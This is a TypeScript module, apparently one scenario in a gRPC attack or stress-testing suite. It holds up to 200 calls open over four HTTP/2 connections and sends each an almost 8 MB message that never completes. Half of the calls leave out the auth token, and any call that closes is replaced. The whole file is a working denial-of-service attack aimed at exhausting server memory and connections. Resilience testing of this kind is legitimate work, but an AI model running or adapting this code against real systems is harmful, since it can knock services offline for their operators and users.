// 200 gRPC calls over four connections, half of them without the token, each with almost 8 MB of a message that never ends: at most 100 MB per
// second. Calls that end are replaced.
import type { ClientHttp2Session } from 'node:http2';
import { type Attack, turns } from '../attack';
import { messageHead, openCall, openSession } from '../grpc-connections';

const length = (8 << 20) - 1000;
const piece = Buffer.alloc(1 << 20);

export const attack: Attack = (target, tally) => async (signal) => {
  const sessions: ClientHttp2Session[] = [];
  let calls = 0;
  let i = 0;
  for await (const _ of turns(12, signal)) {
    if (calls >= 200) continue;
    const place = i++ % 4;
    const token = i % 8 < 4 ? target.token : undefined;
    const session = sessions[place] ?? openSession(target, tally);
    const call = openCall(session, tally, token);
    if (call === undefined) {
      delete sessions[place];
      continue;
    }
    sessions[place] = session;
    calls++;
    call.on('close', () => calls--);
    call.write(messageHead(length));
    for (let sent = 0; sent + piece.length < length; sent += piece.length) call.write(piece);
  }
};
